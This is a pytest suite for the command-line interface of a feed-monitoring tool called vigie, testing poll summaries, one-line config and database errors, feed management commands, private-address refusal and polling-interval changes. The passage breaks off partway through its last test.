"""The command line as an operator uses it: summaries, one-line errors, feeds, search, `run`."""

from __future__ import annotations

import csv
import io
import json
import re
import signal
import sqlite3
import subprocess
import sys
import time
import tomllib
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from conftest import REPO, SAMPLES, LoopbackServer
from delivery_support import IMMEDIATE_DESK, write_delivery_config
from identity_support import Item, rss
from process_support import running, stop

from monitor.cli import main
from monitor.scheduler import database_lock
from monitor.store import Store

RSS = (SAMPLES / "coastal-herald.rss").read_bytes()
RSS_ITEMS = len(ET.fromstring(RSS).findall("./channel/item"))
ATOM = (SAMPLES / "nord-actu.atom").read_bytes()
ATOM_ITEMS = len(ET.fromstring(ATOM).findall("{http://www.w3.org/2005/Atom}entry"))


def vigie(*args: str | Path) -> Result:
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def error_lines(result: Result | subprocess.CompletedProcess) -> list[str]:
    return [line for line in result.stderr.splitlines() if line.strip()]


def assert_one_line_error(result: Result | subprocess.CompletedProcess, *parts: str) -> str:
    exit_code = result.exit_code if isinstance(result, Result) else result.returncode
    assert exit_code == 1
    lines = error_lines(result)
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("error: ")
    assert "Traceback" not in result.stderr + result.stdout
    for part in parts:
        assert part in lines[0]
    return lines[0]


def stored_database(config: Path) -> Path:
    """Make the database `config` names, as a first `vigie once` would: the commands that
    only read it make none."""
    database = config.parent / "data" / "vigie.db"
    Store(database).close()
    return database


@pytest.fixture
def feed_config(server: LoopbackServer, write_config: Callable[..., Path]) -> Path:
    server.route("/coastal.rss", RSS, etag='"c1"')
    return write_config([{"url": server.url("/coastal.rss"), "name": "Coastal"}])


def test_once_prints_a_summary_then_nothing_new(feed_config: Path) -> None:
    first = vigie("once", "--config", feed_config)
    assert first.exit_code == 0, first.output
    assert f"Polled 1 feed (0 unchanged): {RSS_ITEMS} new articles" in first.stdout
    assert f"({RSS_ITEMS} articles, 0 matches)" in first.stdout
    second = vigie("once", "--config", feed_config)
    assert second.exit_code == 0
    assert "Polled 1 feed (1 unchanged): 0 new articles" in second.stdout
    assert f"({RSS_ITEMS} articles" in second.stdout


def test_once_counts_what_the_database_holds_once_retention_has_pruned(feed_config: Path) -> None:
    """The counts were taken before pruning: an operator saw articles that were gone."""
    text = feed_config.read_text(encoding="utf-8")
    kept = text.replace(
        'database = "data/vigie.db"', 'database = "data/vigie.db"\nretention = "1d"'
    )
    feed_config.write_text(kept, encoding="utf-8")
    assert f"({RSS_ITEMS} articles, 0 matches)" in vigie("once", "--config", feed_config).stdout
    with sqlite3.connect(feed_config.parent / "data" / "vigie.db") as db:
        db.execute("UPDATE articles SET first_seen = '2000-01-01T00:00:00+00:00'")
    second = vigie("once", "--config", feed_config)
    assert f"(0 articles, 0 matches; {RSS_ITEMS} older than storage.retention pruned)" in (
        second.stdout
    )


def test_once_lists_each_failing_feed(
    server: LoopbackServer, closed_port: int, write_config: Callable[..., Path]
) -> None:
    server.route("/good.rss", RSS)
    server.route("/down.rss", b"", status=500)
    config = write_config(
        [server.url("/good.rss"), server.url("/down.rss"), f"http://127.0.0.1:{closed_port}/x"]
    )
    result = vigie("once", "--config", config)
    assert result.exit_code == 0
    assert f"{RSS_ITEMS} new articles" in result.stdout and "2 errors." in result.stdout
    lines = result.stdout.splitlines()
    assert f"  error {server.url('/down.rss')}: HTTP 500 Internal Server Error" in lines
    assert any(
        line.startswith(f"  error http://127.0.0.1:{closed_port}/x: connection failed")
        for line in lines
    )


def test_once_refuses_loopback_by_default(
    server: LoopbackServer, write_config: Callable[..., Path]
) -> None:
    server.route("/coastal.rss", RSS)
    config = write_config([server.url("/coastal.rss")], fetch={"allow_private": False})
    result = vigie("once", "--config", config)
    assert "0 new articles" in result.stdout
    assert "refused to connect to non-public address 127.0.0.1" in result.stdout
    assert server.requests == []


def service_py(*args: str | Path, timeout: float = 60) -> subprocess.CompletedProcess:
    """`python service.py ARGS` from the repository root, as an operator runs it."""
    return subprocess.run(
        [sys.executable, str(REPO / "service.py"), *[str(a) for a in args]],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


@pytest.mark.parametrize("command", ["once", "run"])
def test_broken_config_is_one_line_without_traceback(tmp_path: Path, command: str) -> None:
    config = tmp_path / "config.toml"
    config.write_text('[[feeds]]\nurl = "a.rss"\n[[feeds]]\nurl = "b.rss"\ninterval = "fast"\n')
    result = service_py(command, "--config", config)
    line = assert_one_line_error(result, str(config), "feeds[1].interval", "fast")
    assert 'expected a duration like "15m"' in line
    assert result.stdout == ""


@pytest.mark.parametrize("command", ["once", "run"])
def test_a_broken_rule_file_at_start_is_one_error_line(tmp_path: Path, command: str) -> None:
    """Before: an ERROR log line said the last good rules were kept, for a command that then
    refused to start (there were none), and the error line said it again."""
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "r.toml").write_text('[[rule]]\nid = "r"\nquery = "(calais"\n')
    config = tmp_path / "config.toml"
    config.write_text('[rules]\npaths = ["rules"]\n[storage]\ndatabase = "v.db"\n')
    result = service_py(command, "--config", config)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    line, *pointer = error_lines(result)  # the error, then its line with a caret under it
    assert line.startswith(f"error: {tmp_path / 'rules' / 'r.toml'}:3:")
    assert "the query ends too early" in line
    assert pointer == ['query = "(calais"', "                ^"]


@pytest.mark.parametrize("command", [["once"], ["feeds", "list"], ["feeds", "export"]])
def test_every_command_reports_config_errors_the_same_way(
    tmp_path: Path, command: list[str]
) -> None:
    config = tmp_path / "config.toml"
    config.write_text("[fetch]\nretries = 3\n")
    result = vigie(*command, "--config", config)
    assert_one_line_error(result, "fetch.retries: unknown setting")


def test_missing_config_file(tmp_path: Path) -> None:
    result = vigie("once", "--config", tmp_path / "nope.toml")
    assert_one_line_error(
        result, "nope.toml: file not found (pass --config PATH, or set VIGIE_CONFIG)"
    )


UNUSABLE_DATABASES = {
    # storage.database -> what the error line says about it (the path is made in tmp_path)
    "folder": "(it is a folder)",
    "passwd": "(it is not a SQLite database)",
    "passwd/x.db": "is a file, not a folder)",
    # Another program's SQLite file: it was given Vigie's tables (and WAL mode).
    "notes.db": "(not a Vigie database: it holds other tables (notes)",
}
DATABASE_COMMANDS = [
    ["once"],
    ["feeds", "list"],
    ["feeds", "add", "https://example.org/feed.xml"],
    ["feeds", "export"],
    ["articles", "search", "calais"],
    ["digest", "preview", "desk"],
    ["digest", "send"],
    ["deliveries", "list"],
    ["deliveries", "retry", "1"],
    ["deliveries", "replay", "--since", "1h"],
    ["rules", "check"],
    ["rules", "test", "--article", "1"],
    ["rules", "backtest"],
]


def unusable_database_config(tmp_path: Path, write_config: Callable[..., Path], db: str) -> Path:
    """config.toml whose storage.database is `db` in tmp_path: a folder, or a file (or a path
    under a file) that is not SQLite, like /etc/passwd."""
    (tmp_path / "folder").mkdir()
    (tmp_path / "passwd").write_text("root:x:0:0:root:/root:/bin/bash\n" * 40)
    with sqlite3.connect(tmp_path / "notes.db") as notes:
        notes.execute("CREATE TABLE notes (body TEXT)")
    notes.close()
    config = write_config(
        [str(SAMPLES / "coastal-herald.rss")],
        database=str(tmp_path / db),
        rules={"paths": [str(REPO / "rules")]},
    )
    with config.open("a") as out:
        out.write('[[subscribers]]\nname = "desk"\nemail = "desk@example.org"\ntags = ["calais"]\n')
    return config


@pytest.mark.parametrize(
    ("db", "command"),
    [
        (db, command)
        for db in UNUSABLE_DATABASES
        for command in DATABASE_COMMANDS
        # `rules` only read a database that is there, and say so when it is not
        if not (db == "passwd/x.db" and command[0] == "rules")
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else value,
)
def test_unusable_database_is_one_line_naming_config_and_key(
    tmp_path: Path, write_config: Callable[..., Path], db: str, command: list[str]
) -> None:
    config = unusable_database_config(tmp_path, write_config, db)
    before = sorted(p.name for p in tmp_path.iterdir())
    result = vigie(*command, "--config", config)
    line = assert_one_line_error(
        result,
        f"{config}: storage.database: expected a SQLite database file",
        UNUSABLE_DATABASES[db],
        f'got "{tmp_path / db}"',
    )
    assert line.startswith(f"error: {config}")
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # no lock file left beside it
    with sqlite3.connect(tmp_path / "notes.db") as notes:
        assert [t for (t,) in notes.execute("SELECT name FROM sqlite_master")] == ["notes"]
    notes.close()


@pytest.mark.parametrize("command", ["once", "run"])
def test_service_refuses_a_database_folder_it_cannot_create(
    tmp_path: Path, write_config: Callable[..., Path], command: str
) -> None:
    """database = "/proc/nope/x.db": /proc/nope can never be made."""
    parent = Path("/proc/nope") if Path("/proc/self").is_dir() else tmp_path / "passwd" / "nope"
    config = unusable_database_config(tmp_path, write_config, "folder")
    config.write_text(config.read_text().replace(str(tmp_path / "folder"), str(parent / "x.db")))
    result = service_py(command, "--config", config)
    assert_one_line_error(
        result,
        f"{config}: storage.database: expected a SQLite database file",
        f"cannot create the folder {parent}",
        f'got "{parent / "x.db"}"',
    )
    assert result.stdout == ""


LOG_LINE = re.compile(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d+ WARNING monitor[.\w]*: ")


def test_once_warnings_say_which_feed_and_why_but_not_again_what_its_summary_says(
    server: LoopbackServer, closed_port: int, write_config: Callable[..., Path]
) -> None:
    """Warnings only the log tells (a page's full text missing, a subscriber's tag no rule has)
    carry their feed and reason; failed feeds and deliveries are in the summary, once."""
    item = Item("p1", "Calais camp cleared", "Police cleared a camp in Calais.", "")
    server.route("/full.rss", rss([replace(item, link=server.url("/missing-page"))]))
    down = f"http://127.0.0.1:{closed_port}/down.rss"
    config = write_config(
        [{"url": server.url("/full.rss"), "full_text": True}, down],
        rules={"paths": [str(REPO / "rules")]},
    )
    with config.open("a") as out:
        out.write(
            f'[smtp]\nhost = "127.0.0.1"\nport = {closed_port}\nsecurity = "none"\n'
            'timeout = "2s"\n[[subscribers]]\nname = "desk"\nemail = "desk@example.org"\n'
            'tags = ["calais", "calias"]\nschedule = "immediate"\n'
        )
    result = service_py("once", "--config", config)
    assert result.returncode == 0, result.stderr
    assert f"  error {down}: connection failed" in result.stdout
    assert re.search(
        r"Digest #1 for desk \(1 article\) will retry at [^:]+:\d\d:\d\d UTC: connection failed",
        result.stdout,
    )
    lines = error_lines(result)
    assert all(LOG_LINE.match(line) for line in lines), lines
    assert not [line for line in lines if "feed failed" in line or "digest to" in line]
    [page] = [line for line in lines if "full text of" in line]
    assert server.url("/missing-page") in page and "feed_id=1" in page and "error='HTTP 404" in page
    [tag] = [line for line in lines if "calias" in line]
    assert "subscribers[0].tags: desk follows tag 'calias', which no enabled rule has" in tag


def test_feeds_add_then_list_json(
    tmp_path: Path, write_config: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    config = write_config([])
    added = vigie(
        "feeds", "add", "https://news.example.com/rss", "--name", "Example",
        "--interval", "15m", "--tag", "uk", "--tag", "wire", "--config", config,
    )  # fmt: skip
    assert added.exit_code == 0, added.output
    assert "https://news.example.com/rss" in added.stdout
    (tmp_path / "local").mkdir()
    monkeypatch.chdir(tmp_path / "local")
    (tmp_path / "local" / "mine.rss").write_bytes(RSS)
    assert vigie("feeds", "add", "mine.rss", "--config", config).exit_code == 0

    listed = vigie("feeds", "list", "--json", "--config", config)
    assert listed.exit_code == 0
    rows = json.loads(listed.stdout)
    assert [r["url"] for r in rows] == [
        "https://news.example.com/rss",
        (tmp_path / "local" / "mine.rss").as_uri(),  # a path typed at the shell: from cwd
    ]
    assert (rows[0]["name"], rows[0]["interval"]) == ("Example", 900)
    assert rows[0]["tags"] == ["uk", "wire"]  # a list, not JSON text inside JSON
    assert rows[0]["last_status"] is None and rows[0]["error_count"] == 0
    assert rows[0]["full_text"] is False
    assert "body_hash" not in rows[0] and "seen_items" not in rows[0]  # polling's own hashes


def test_feeds_add_language_is_said_to_win_over_what_the_feed_declares(
    server: LoopbackServer, write_config: Callable[..., Path]
) -> None:
    """--help said "Language of items that do not say theirs": it is every item's language,
    whatever the feed declares (a blog's en-US over French items), as README says."""
    server.route("/blog.rss", rss([Item("b1", "Les exilés de Calais")], language="en-US"))
    config = write_config()
    added = vigie("feeds", "add", server.url("/blog.rss"), "--language", "fr", "--config", config)
    assert added.exit_code == 0, added.output
    assert vigie("once", "--config", config).exit_code == 0
    with sqlite3.connect(config.parent / "data" / "vigie.db") as db:
        assert db.execute("SELECT language FROM articles").fetchall() == [("fr",)]
    help_text = " ".join(vigie("feeds", "add", "--help", "--config", config).stdout.split())
    assert "whatever the feed declares" in help_text
    assert "do not say theirs" not in help_text


@pytest.mark.parametrize("interval", ["often", "0", "99999999999d"])
def test_feeds_add_refuses_a_bad_interval(write_config: Callable[..., Path], interval: str) -> None:
    """0 would poll without pause; past a century the next poll's date overflowed."""
    config = write_config([])
    result = vigie(
        "feeds", "add", "https://x.example/rss", "--interval", interval, "--config", config
    )
    assert_one_line_error(result, "--interval", interval)
    assert json.loads(vigie("feeds", "list", "--json", "--config", config).stdout) == []


@pytest.mark.parametrize("url", ["ftp://x/y", "gopher://127.0.0.1:70/", "https:///rss"])
def test_feeds_add_refuses_an_address_no_poll_could_fetch(
    write_config: Callable[..., Path], url: str
) -> None:
    config = write_config([])
    result = vigie("feeds", "add", url, "--config", config)
    assert_one_line_error(result, "URL: expected an http(s):// URL", "a file:// URL", f'"{url}"')
    assert listed_urls(config) == []


@pytest.mark.parametrize("url", ["example.org/feed.xml", "absent.rss"])
def test_feeds_add_refuses_a_file_that_is_not_there(
    write_config: Callable[..., Path], url: str
) -> None:
    """A web address typed without https:// was taken for a file of that name, added, and
    failed at every poll ("cannot read file")."""
    config = write_config([])
    result = vigie("feeds", "add", url, "--config", config)
    assert_one_line_error(result, "URL: no such file here", f"like https://{url}")
    assert listed_urls(config) == []


def test_feeds_add_of_a_folder_says_it_takes_files(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """A folder of feed files was told to write its path as https://tmp/... (a review)."""
    config = write_config([])
    result = vigie("feeds", "add", str(tmp_path), "--config", config)
    assert_one_line_error(result, "URL: a feed file, not a folder")
    assert listed_urls(config) == []


def test_feeds_add_takes_language_and_full_text_as_config_toml_does(
    write_config: Callable[..., Path],
) -> None:
    """Only a feed in config.toml could be French, or read in full: `feeds add` had neither."""
    config = write_config([])
    url = "https://actu.example/rss"
    added = vigie("feeds", "add", url, "--language", "fr-FR", "--full-text", "--config", config)
    assert added.exit_code == 0, added.output
    [row] = json.loads(vigie("feeds", "list", "--json", "--config", config).stdout)
    assert (row["language"], row["full_text"]) == ("fr", True)
    changed = vigie("feeds", "add", url, "--no-full-text", "--config", config)
    assert "changed full_text true -> false" in changed.stdout
    bad = vigie("feeds", "add", url, "--language", "french", "--config", config)
    assert_one_line_error(bad, "--language: expected a language code like fr or en")


def test_feeds_add_refuses_an_empty_tag(write_config: Callable[..., Path]) -> None:
    config = write_config([])
    result = vigie("feeds", "add", "https://x.example/rss", "--tag", " ", "--config", config)
    assert_one_line_error(result, "--tag: expected a word")
    assert listed_urls(config) == []


@pytest.mark.parametrize(
    ("url", "address"),
    [
        ("http://127.0.0.1:8081/x.rss", "127.0.0.1"),
        ("http://[::1]/x.rss", "::1"),
        ("http://10.1.2.3/x.rss", "10.1.2.3"),
        ("http://LocalHost:8081/x.rss", "127.0.0.1"),
    ],
)
def test_feeds_add_warns_at_once_of_an_address_the_guard_will_refuse(
    write_config: Callable[..., Path], url: str, address: str
) -> None:
    """With fetch.allow_private = false, a loopback feed was said to be "polled on the next
    cycle", and the refusal came only at poll time. It is still added: the config may
    change."""
    config = write_config([], fetch={"allow_private": False})
    added = vigie("feeds", "add", url, "--config", config)
    assert added.exit_code == 0, added.output
    assert "polled on the next cycle" in added.stdout
    warning = " ".join(added.stderr.split())
    assert warning.startswith("warning: ") and "will be refused when polled" in warning
    assert f"refused to connect to non-public address {address}" in warning
    assert "(fetch.allow_hosts or fetch.allow_private let it through)" in warning
    assert len(listed_urls(config)) == 1


@pytest.mark.parametrize(
    "fetch",
    [
        {"allow_private": True},
        {"allow_private": False, "allow_hosts": ["127.0.0.0/8"]},
        {"allow_private": False, "allow_hosts": ["localhost"]},
    ],
)
def test_feeds_add_of_an_allowed_private_address_says_nothing_more(
    write_config: Callable[..., Path], fetch: dict[str, object]
) -> None:
    config = write_config([], fetch=fetch)
    url = "http://localhost:8081/x.rss" if "localhost" in str(fetch) else "http://127.0.0.1/x"
    added = vigie("feeds", "add", url, "--config", config)
    assert added.exit_code == 0 and added.stderr == "", added.output


def test_feeds_add_of_a_host_name_warns_of_nothing_and_looks_nothing_up(
    write_config: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Only the address a name has when polled tells: none is looked up at `feeds add`."""

    def no_lookup(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"looked up {args}")

    monkeypatch.setattr("socket.getaddrinfo", no_lookup)
    config = write_config([], fetch={"allow_private": False})
    added = vigie("feeds", "add", "https://intranet.example/x.rss", "--config", config)
    assert added.exit_code == 0 and added.stderr == "", added.output


def test_feeds_import_warns_of_each_address_the_guard_will_refuse(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    config = write_config([], fetch={"allow_private": False})
    opml = tmp_path / "subs.opml"
    opml.write_text(
        '<opml version="2.0"><body>'
        '<outline text="Lab" xmlUrl="http://192.168.1.5/lab.rss"/>'
        '<outline text="Public" xmlUrl="https://public.example/rss"/>'
        '<outline text="Local" xmlUrl="http://127.0.0.1:9000/x.rss"/>'
        "</body></opml>"
    )
    imported = vigie("feeds", "import", opml, "--config", config)
    assert imported.exit_code == 0, imported.output
    assert "Imported 3 new feeds" in imported.stdout
    warnings = [line for line in imported.stderr.splitlines() if line.startswith("warning:")]
    assert len(warnings) == 2, imported.stderr
    text = " ".join(imported.stderr.split())
    assert "http://192.168.1.5/lab.rss will be refused when polled" in text
    assert "http://127.0.0.1:9000/x.rss will be refused when polled" in text
    assert "public.example" not in text


def test_feeds_list_piped_keeps_each_url_on_its_line(write_config: Callable[..., Path]) -> None:
    """Piped to less or grep, the table was folded to 80 columns: URLs in 12-character pieces
    that no one could copy."""
    url = "https://news.example.com/sections/world/europe/france/calais/feed.rss"
    config = write_config([url])
    listed = vigie("feeds", "list", "--config", config).stdout
    assert any(url in line for line in listed.splitlines()), listed


def test_feeds_list_shows_status_after_a_poll(feed_config: Path) -> None:
    vigie("once", "--config", feed_config)
    rows = json.loads(vigie("feeds", "list", "--json", "--config", feed_config).stdout)
    [row] = rows
    assert (row["name"], row["title"], row["last_status"]) == ("Coastal", "The Coastal Herald", 200)
    assert row["items"] == RSS_ITEMS and row["etag"] == '"c1"'
    table = vigie("feeds", "list", "--config", feed_config)
    assert table.exit_code == 0 and "Coastal" in table.stdout
    # Times relative and short, so that the URL and the error keep the width.
    [line] = [line for line in table.stdout.splitlines() if "Coastal" in line]
    # "now" under a second after the poll; a loaded machine may take a few seconds more.
    assert re.search(r" (now|\ds ago) +\d+ +0 +in \d+m ", line), table.stdout


def test_feeds_list_failing_and_tag_keep_only_those_feeds(
    server: LoopbackServer, write_config: Callable[..., Path]
) -> None:
    """Among 2,000 feeds, the hundred failing were somewhere in 4,000 lines of table, where
    `vigie status` sent the operator: `--failing` and `--tag` keep only those."""
    server.route("/good.rss", RSS)
    server.route("/gone.rss", b"", status=404)
    server.route("/down.rss", b"", status=500)
    config = write_config(
        [
            {"url": server.url("/good.rss"), "name": "Good", "tags": ["uk"]},
            {"url": server.url("/gone.rss"), "name": "Gone", "tags": ["uk"]},
            {"url": server.url("/down.rss"), "name": "Down", "tags": ["fr"]},
        ]
    )
    vigie("once", "--config", config)
    vigie("once", "--config", config)  # Down fails twice; Gone's error count is set to 1 below
    with sqlite3.connect(config.parent / "data" / "vigie.db") as db:
        db.execute("UPDATE feeds SET error_count = 1 WHERE name = 'Gone'")
    failing = vigie("feeds", "list", "--failing", "--config", config)
    assert failing.exit_code == 0, failing.output
    named = [line.split()[1] for line in failing.stdout.splitlines() if "http://" in line]
    assert named == ["Down", "Gone"], failing.stdout  # most failed polls in a row first
    assert "HTTP 404" in failing.stdout and "HTTP 500" in failing.stdout
    assert "2 feeds of 3 (--failing)" in failing.stderr
    listed = json.loads(
        vigie("feeds", "list", "--failing", "--tag", "uk", "--json", "--config", config).stdout
    )
    assert [row["name"] for row in listed] == ["Gone"]
    tagged = vigie("feeds", "list", "--tag", "uk", "--config", config)
    assert "Good" in tagged.stdout and "Gone" in tagged.stdout and "Down" not in tagged.stdout
    none = vigie("feeds", "list", "--tag", "nowhere", "--config", config)
    assert none.exit_code == 0 and "http://" not in none.stdout
    assert "0 feeds of 3 (--tag nowhere)" in none.stderr


def test_a_shorter_interval_moves_the_next_poll_at_once(
    server: LoopbackServer, write_config: Callable[..., Path]
) -> None:
    """`feeds add URL --interval 1m` on a feed polled by the hour said "changed interval
    default -> 60s", and `feeds list` still showed "next: in 29m": the stored next poll was
    kept, so the change took effect an old interval later."""
    server.route("/coastal.rss", RSS, etag='"c1"')
    url = server.url("/coastal.rss")
    config = write_config([])
    assert vigie("feeds", "add", url, "--tag", "floods", "--config", config).exit_code == 0
    assert vigie("once", "--config", config).exit_code == 0
    [before] = json.loads(vigie("feeds", "list", "--json", "--config", config).stdout)
    polled = datetime.fromisoformat(before["last_polled"])
    # At its slot, at least a tenth of the 30-minute interval away (pipeline.SLOT_MARGIN).
    assert datetime.fromisoformat(before["next_poll"]) >= polled + timedelta(minutes=2)
    changed = vigie("feeds", "add", url, "--interval", "1m", "--config", config)
    assert "changed interval default -> 60s" in changed.stdout
    [after] = json.loads(vigie("feeds", "list", "--json", "--config", config).stdout)
    assert datetime.fromisoformat(after["next_poll"]) <= polled + timedelta(minutes=1)
    # The table shows each feed's interval and tags, so the operator sees what changed.
    table = vigie("feeds", "list", "--config", config).stdout
    [line] = [line for line in table.splitlines() if url in line]
    assert re.search(r" 1m +floods", line), table
    assert "every" in table and "tags" in table


def test_a_shorter_polling_interval_moves_the_feeds_that_follow_it(
    server: LoopbackServer, write_config: Callable[..., Path]
) -> None:
    """polling.interval shortened from 2 hours to 10 minutes left every feed without an
    interval of its own due up to 2 hours on, listed every 10m (a review): those of
    config.toml and those added by hand follow it; a feed with its own interval keeps it."""
    server.route("/coastal.rss", RSS, etag='"c1"')
    server.route("/nord.atom", ATOM, etag='"n1"')
    server.route("/own.rss", RSS, etag='"o1"')
    listed = {"url": server.url("/coastal.rss"), "name": "Coastal"}
    own = {"url": server.url("/own.rss"), "name": "Own", "interval": "3h"}
    config = write_config([listed, own], polling={"interval": "2h"})
    added = vigie("feeds", "add", server.url("/nord.atom"), "--name", "Nord", "--config", config)
    assert added.exit_code == 0 and vigie("once", "--config", config).exit_code == 0

    def feeds() -> dict[str, dict]:
        rows = json.loads(vigie("feeds", "list", "--json", "--config", config).stdout)
        return {row["name"]: row for row in rows}

    before = feeds()
    write_config([listed, own], polling={"interval": "10m"})
    after = feeds()
    assert after.keys() == {"Coastal", "Nord", "Own"}
    for name in ("Coastal", "Nord"):
        polled = datetime.fromisoformat(after[name]["last_polled"])
        assert datetime.fromisoformat(after[name]["next_poll"]) <= polled + timedelta(minutes=11)
    assert after["Own"]["next_poll"] == before["Own"]["next_poll"]  # its own 3 hours


def test_a_shorter_interval_in_config_toml_moves_the_next_poll(
    server: LoopbackServer, write_config: Callable[..., Path]
) -> None:
    """The same with `interval = "1m"` written in config.toml: applied at the next start, it
    waited for the next poll the old interval had set."""
    server.route("/coastal.rss", RSS, etag='"c1"')
    feed = {"url": server.url("/coastal.rss"), "name": "Coastal"}
    config = write_config([feed])
    assert vigie("once", "--config", config).exit_code == 0
    [before] = json.loads(vigie("feeds", "list", "--json", "--config", config).stdout)
    polled = datetime.fromisoformat(before["last_polled"])
    write_config([{**feed, "interval": "1m"}])
    [after] = json.loads(vigie("feeds", "list", "--json", "--config", config).stdout)
    assert after["interval"] == 60
    assert datetime.fromisoformat(after["next_poll"]) <= polled + timedelta(minutes=1)
    # A longer interval leaves the next poll alone: it is at most the old interval away.
    write_config([{**feed, "interval": "2h"}])
    [longer] = json.loads(vigie("feeds", "list", "--json", "--config", config).stdout)
    assert longer["next_poll"] == after["next_poll"]


def listed_urls(config: Path, *options: str) -> list[str]:
    listed = vigie("feeds", "list", "--json", *options, "--config", config)
    assert listed.exit_code == 0, listed.output
    return [row["url"] for row in json.loads(listed.stdout)]


def test_a_feed_removed_from_config_is_retired_and_comes_back_with_its_state(
    server: LoopbackServer, write_config: Callable[..., Path]
) -> None:
    server.route("/coastal.rss", RSS, etag='"c1"')
    server.route("/nord.atom", ATOM, etag='"n1"')
    coastal, nord = server.url("/coastal.rss"), server.url("/nord.atom")
    both = write_config([coastal, {"url": nord, "name": "Nord"}])
    first = vigie("once", "--config", both)
    assert f"Polled 2 feeds (0 unchanged): {RSS_ITEMS + ATOM_ITEMS} new articles" in first.stdout

    only_coastal = write_config([coastal])
    second = vigie("once", "--config", only_coastal)
    assert "Polled 1 feed (1 unchanged)" in second.stdout, second.output
    assert len(server.requests_to("/nord.atom")) == 1
    assert f"({RSS_ITEMS + ATOM_ITEMS} articles" in second.stdout  # its articles stay
    assert listed_urls(only_coastal) == [coastal]
    rows = json.loads(vigie("feeds", "list", "--json", "--all", "--config", only_coastal).stdout)
    assert [(r["url"], r["source"], bool(r["retired"])) for r in rows] == [
        (coastal, "config", False),
        (nord, "config", True),
    ]
    table = vigie("feeds", "list", "--all", "--config", only_coastal)
    assert "retired" in table.stdout and "Nord" in table.stdout
    assert "Nord" not in vigie("feeds", "list", "--config", only_coastal).stdout
    assert "nord.atom" not in vigie("feeds", "export", "--config", only_coastal).stdout

    back = vigie("once", "--config", write_config([coastal, {"url": nord, "name": "Nord"}]))
    assert "Polled 2 feeds (2 unchanged): 0 new articles" in back.stdout, back.output
    assert server.requests_to("/nord.atom")[-1].headers["if-none-match"] == '"n1"'
    assert [
        r["id"] for r in json.loads(vigie("feeds", "list", "--json", "--config", both).stdout)
    ] == [r["id"] for r in rows]


def test_feeds_remove_stops_polling_a_hand_added_feed_and_keeps_its_articles(
    server: LoopbackServer, write_config: Callable[..., Path]
) -> None:
    server.route("/coastal.rss", RSS, etag='"c1"')
    server.route("/nord.atom", ATOM)
    coastal, nord = server.url("/coastal.rss"), server.url("/nord.atom")
    config = write_config([coastal])
    assert vigie("feeds", "add", nord, "--name", "Nord", "--config", config).exit_code == 0
    first = vigie("once", "--config", config)
    assert f"{RSS_ITEMS + ATOM_ITEMS} new articles" in first.stdout, first.output
    [nord_id] = [
        r["id"]
        for r in json.loads(vigie("feeds", "list", "--json", "--config", config).stdout)
        if r["url"] == nord
    ]

    removed = vigie("feeds", "remove", str(nord_id), "--config", config)  # by its id
    assert removed.exit_code == 0, removed.output
    assert f"{nord} retired: no longer polled; its {ATOM_ITEMS} articles are kept" in removed.stdout
    again = vigie("once", "--config", config)
    assert "Polled 1 feed" in again.stdout, again.output
    assert len(server.requests_to("/nord.atom")) == 1
    assert f"({RSS_ITEMS + ATOM_ITEMS} articles" in again.stdout
    assert listed_urls(config) == [coastal]
    rows = json.loads(vigie("feeds", "list", "--json", "--all", "--config", config).stdout)
    assert [(r["url"], r["source"], bool(r["retired"])) for r in rows] == [
        (coastal, "config", False),
        (nord, "cli", True),
    ]
    twice = vigie("feeds", "remove", nord, "--config", config)  # by its URL
    assert twice.exit_code == 0 and "was retired on" in twice.stdout, twice.output

    back = vigie("feeds", "add", nord, "--config", config)
    assert "retired before, polled again from the next cycle" in back.stdout, back.output
    assert listed_urls(config) == [coastal, nord]


def test_feeds_remove_refuses_a_feed_config_lists_and_an_unknown_one(
    write_config: Callable[..., Path],
) -> None:
    listed = "https://configured.example/rss"
    config = write_config([listed])
    vigie("once", "--config", config)  # stores the configured feed (its poll fails: no server)
    refused = vigie("feeds", "remove", listed, "--config", config)
    line = config.read_text().splitlines().index(f'url = "{listed}"') + 1
    assert_one_line_error(
        refused, f"{listed} is listed in {config}:{line} (feeds[0]): delete it there to stop"
    )
    assert listed_urls(config) == [listed]
    unknown = vigie("feeds", "remove", "https://never.example/rss", "--config", config)
    assert_one_line_error(unknown, "FEED: expected the URL, path or id of a stored feed")
    assert_one_line_error(vigie("feeds", "remove", "99", "--config", config), '"99"')


def test_a_bad_url_removed_from_config_stops_failing(
    server: LoopbackServer, closed_port: int, write_config: Callable[..., Path]
) -> None:
    server.route("/coastal.rss", RSS)
    broken = f"http://127.0.0.1:{closed_port}/x"
    first = vigie("once", "--config", write_config([server.url("/coastal.rss"), broken]))
    assert "1 error." in first.stdout
    fixed = write_config([server.url("/coastal.rss")])
    second = vigie("once", "--config", fixed)
    assert "Polled 1 feed" in second.stdout and "0 errors." in second.stdout, second.output
    assert broken not in second.stdout


def test_config_edits_leave_feeds_added_by_hand_alone(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    config = write_config(["https://configured.example/rss"])
    assert vigie("feeds", "add", "https://added.example/rss", "--config", config).exit_code == 0
    opml = tmp_path / "subs.opml"
    opml.write_text(
        '<opml version="2.0"><body><outline text="I" xmlUrl="https://imported.example/rss"/>'
        "</body></opml>"
    )
    assert vigie("feeds", "import", opml, "--config", config).exit_code == 0
    emptied = write_config([])
    assert listed_urls(emptied) == ["https://added.example/rss", "https://imported.example/rss"]


def test_a_config_feed_moved_by_a_permanent_redirect_stays_one_feed(
    server: LoopbackServer, write_config: Callable[..., Path]
) -> None:
    """config.toml still says the old address: the moved feed is the one it lists, not a feed
    to retire beside a new one under the old address."""
    server.redirect("/old.rss", "/new.rss", status=301)
    server.route("/new.rss", RSS)
    config = write_config([server.url("/old.rss")])
